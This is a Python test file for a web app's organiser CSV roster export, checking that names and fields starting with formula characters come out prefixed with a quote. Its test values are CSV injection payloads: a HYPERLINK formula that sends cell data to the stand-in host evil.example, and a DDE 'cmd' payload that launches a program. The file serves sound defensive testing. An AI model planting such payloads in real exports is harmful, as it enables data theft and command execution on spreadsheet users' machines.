"""The organiser's CSV downloads never hand a spreadsheet program a formula."""

from __future__ import annotations

import csv
import io

from sqlalchemy.orm import Session

from tests.organiser.conftest import LoggedIn, solved_draft
from vekl.runs import publishing
from vekl.settings import Settings
from vekl.store.models import Round

ROUND = "/organiser/rounds/konstanz-mai"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_the_roster_defuses_names_and_needs_that_start_a_formula(
    team: LoggedIn, db: Session, example_round: Round, settings: Settings
) -> None:
    run = solved_draft(db, example_round)
    publishing.publish(db, example_round.slug, run.id, settings=settings, actor="test")
    group = run.groups[0]
    person = group.members[0].participant
    person.last_name = HOSTILE_NAME
    person.first_name = "@SUM(A1:A9)"
    person.needs_other = "-1+cmd|' /C calc'!A0"
    db.commit()
    for path in (f"groups/{group.key}", f"series/{group.series.key}"):
        roster = team.client.get(f"{ROUND}/{path}/roster.csv")
        assert roster.status_code == 200
        rows = csv.DictReader(io.StringIO(roster.content.decode("utf-8-sig")), delimiter=";")
        (row,) = [r for r in rows if r["email"] == person.email]
        assert row["last_name"] == "'" + HOSTILE_NAME
        assert row["first_name"] == "'@SUM(A1:A9)"
        assert row["needs_other"] == "'-1+cmd|' /C calc'!A0"
